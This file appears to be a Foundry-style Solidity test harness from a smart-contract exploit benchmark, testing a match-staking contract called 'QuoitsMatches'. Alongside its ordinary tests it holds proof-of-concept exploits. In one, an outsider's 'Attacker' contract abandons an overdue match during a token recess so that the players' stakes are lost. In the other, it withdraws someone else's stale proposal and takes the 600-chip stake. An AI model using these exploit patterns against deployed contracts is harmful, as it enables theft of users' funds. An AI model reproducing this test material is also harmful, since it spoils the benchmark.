// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

// assay-canary-e15c12f1-19ca-4b6d-a278-37c48bbcd29d

import "./QuoitsMatches.sol";
import "./context/GuildChips.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

/// Chips that can be told to say no, and to be fewer than they are.
contract WeakChips is IChips {
    address private minter = msg.sender;
    bool private asleep;
    uint256 private hidden;
    mapping(address => uint256) private held;

    function set(bool asleep_, uint256 hidden_) external {
        require(msg.sender == minter, "minter only");
        (asleep, hidden) = (asleep_, hidden_);
    }

    function balanceOf(address account) external view override returns (uint256) {
        return held[account] - hidden;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        held[msg.sender] -= amount;
        held[to] += amount;
        return !asleep;
    }

    function transferFrom(address, address to, uint256 amount) external override returns (bool) {
        held[to] += amount;
        return !asleep;
    }
}

contract Player {
    QuoitsMatches private house;

    constructor(QuoitsMatches house_) public {
        house = house_;
        GuildChips(address(house_.chips())).approve(address(house_), uint256(-1));
    }

    function propose(address guest, address umpire, uint96 stake, uint64 playBy) external returns (uint256) {
        return house.propose(guest, umpire, stake, playBy);
    }

    function accept(uint256 id) external {
        house.accept(id);
    }

    function withdraw(uint256 id) external {
        house.withdraw(id);
    }

    function concede(uint256 id) external {
        house.concede(id);
    }

    function collectIfAny() external {
        if (house.credit(address(this)) > 0) house.collect();
    }
}

/// Not a player.
contract Attacker {
    function run(QuoitsMatches house, uint256 id) external {
        house.abandon(id);
    }

    function tidy(QuoitsMatches house, uint256 id) external {
        house.withdraw(id);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_766_500_000;

    GuildChips public chips;
    QuoitsMatches public house;
    Player public ann;
    Player public bob;
    Attacker public passer;
    uint256 public overdue;
    uint256 public stale; // proposed, and never accepted

    function setUp() public {
        vm.warp(START);
        chips = new GuildChips();
        house = new QuoitsMatches(chips);
        ann = new Player(house);
        bob = new Player(house);
        passer = new Attacker();
        chips.issue(address(ann), 2600);
        chips.issue(address(bob), 2000);
        overdue = ann.propose(address(bob), address(this), 700, uint64(START + 10 days));
        bob.accept(overdue);
        stale = ann.propose(address(bob), address(this), 600, uint64(START + 12 days));
        vm.warp(START + 14 days);
        chips.callRecess();
    }

    // Chips that the two players have or can still get.
    function playersChips() public view returns (uint256 sum) {
        sum = chips.balanceOf(address(ann)) + chips.balanceOf(address(bob));
        sum += house.credit(address(ann)) + house.credit(address(bob));
        for (uint256 i = 0; i < house.matchCount(); ++i) {
            (, , , uint96 stake, , QuoitsMatches.State state) = house.matches(i);
            if (state == QuoitsMatches.State.Proposed) sum += stake;
            if (state == QuoitsMatches.State.Playing) sum += 2 * uint256(stake);
        }
    }

    function test_Regular() public {
        require(playersChips() == 4600 && house.isOverdue(overdue), "nothing lost");
        vm.warp(START + 15 days);
        house.abandon(overdue);
        ann.collectIfAny();
        bob.collectIfAny();
        require(chips.balanceOf(address(ann)) == 2000 && chips.balanceOf(address(bob)) == 2000, "stakes are back");
        try house.abandon(overdue) {
            revert("abandoned twice");
        } catch {}

        // The umpire reports, the winner collects.
        uint256 id = ann.propose(address(bob), address(this), 500, uint64(block.timestamp + 5 days));
        try house.abandon(id) {
            revert("not accepted");
        } catch {}
        bob.accept(id);
        try ann.withdraw(id) {
            revert("accepted already");
        } catch {}
        try house.abandon(id) {
            revert("not overdue");
        } catch {}
        house.report(id, false);
        require(house.credit(address(bob)) == 980 && house.credit(address(this)) == 20, "credits");
        bob.collectIfAny();
        require(chips.balanceOf(address(bob)) == 2480, "collected");
        house.collect();

        // One is conceded, one withdrawn.
        id = bob.propose(address(ann), address(this), 100, uint64(block.timestamp + 5 days));
        ann.accept(id);
        bob.concede(id);
        ann.collectIfAny();
        require(chips.balanceOf(address(ann)) == 1596, "conceded");
        id = bob.propose(address(ann), address(this), 100, uint64(block.timestamp + 5 days));
        bob.withdraw(id);
        require(chips.balanceOf(address(bob)) == 2380, "withdrawn");
        ann.withdraw(stale);
        require(chips.balanceOf(address(ann)) == 2196 && chips.balanceOf(address(house)) == 4, "nothing stays");
        try bob.accept(id) {
            revert("withdrawn");
        } catch {}
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Matches of two, with an umpire who is neither, a stake and a day.
    function test_RefusesProposals() public {
        uint64 day = uint64(block.timestamp + 5 days);
        vm.warp(block.timestamp + 1 days);
        refuses(address(ann), "guest");
        house.propose(address(0), address(this), 1, day);
        refuses(address(ann), "guest");
        house.propose(address(ann), address(this), 1, day);
        refuses(address(ann), "umpire");
        house.propose(address(bob), address(ann), 1, day);
        refuses(address(ann), "umpire");
        house.propose(address(bob), address(bob), 1, day);
        refuses(address(ann), "stake");
        house.propose(address(bob), address(this), 0, day);
        refuses(address(ann), "date");
        house.propose(address(bob), address(this), 1, uint64(block.timestamp));
        refuses(address(ann), "date");
        house.propose(address(bob), address(this), 1, uint64(block.timestamp + 365 days));
        vm.expectRevert("no credit");
        house.collect();
    }

    /// Each step by whom it concerns, in its state, in time, of a match that there is.
    function test_RefusesSteps() public {
        vm.warp(block.timestamp + 1 days);
        uint256 id = ann.propose(address(bob), address(this), 10, uint64(block.timestamp + 5 days));
        vm.expectRevert("guest only");
        house.accept(id);
        vm.expectRevert("home only");
        house.withdraw(id);
        vm.expectRevert("not now");
        house.report(id, true);
        refuses(address(ann), "not now");
        house.concede(id);
        vm.warp(block.timestamp + 9 days);
        vm.expectRevert("not now");
        house.abandon(id);
        refuses(address(bob), "too late");
        house.accept(id);
        refuses(address(bob), "not now");
        house.accept(overdue);
        refuses(address(ann), "umpire only");
        house.report(overdue, true);
        vm.expectRevert("players only");
        house.concede(overdue);
        vm.prank(address(bob));
        house.concede(overdue);
        vm.expectRevert("no such match");
        house.accept(99);
        vm.expectRevert("no such match");
        house.withdraw(99);
        vm.expectRevert("no such match");
        house.report(99, true);
        vm.expectRevert("no such match");
        house.concede(99);
        vm.expectRevert("no such match");
        house.abandon(99);
    }

    /// Chips that say no are believed.
    function test_RefusesFailedTransfers() public {
        WeakChips weak = new WeakChips();
        QuoitsMatches other = new QuoitsMatches(weak);
        uint64 day = uint64(block.timestamp + 5 days);
        uint256 id = other.propose(address(ann), address(bob), 10, day);
        weak.set(true, 0);
        vm.expectRevert("chips");
        other.propose(address(ann), address(bob), 10, day);
        vm.expectRevert("chips");
        other.withdraw(id);
        refuses(address(ann), "chips");
        other.accept(id);
        weak.set(false, 0);
        vm.prank(address(ann));
        other.accept(id);
        vm.prank(address(bob));
        other.report(id, true);
        weak.set(true, 0);
        vm.expectRevert("chips");
        other.collect();
        weak.set(false, 0);
        id = other.propose(address(ann), address(bob), 10, day);
        vm.prank(address(ann));
        other.accept(id);
        weak.set(false, 25);
        vm.warp(block.timestamp + 9 days);
        vm.expectRevert("chips");
        other.abandon(id);
    }

    function exploit() public {
        passer.run(house, overdue);
    }

    function test_Exploit() public {
        uint256 before = playersChips();
        exploit();
        require(playersChips() + 1000 <= before, "stakes are lost");
    }

    // The recess is over a day later, and the proposal is out of date as before.
    function exploit2() public {
        vm.warp(START + 15 days);
        passer.tidy(house, stale);
    }

    function test_Exploit2() public {
        exploit2();
        require(chips.balanceOf(address(passer)) == 600, "somebody else's stake");
    }

    function target() public view returns (address) {
        return address(house);
    }

    function attacker() public view returns (address) {
        return address(passer);
    }
}
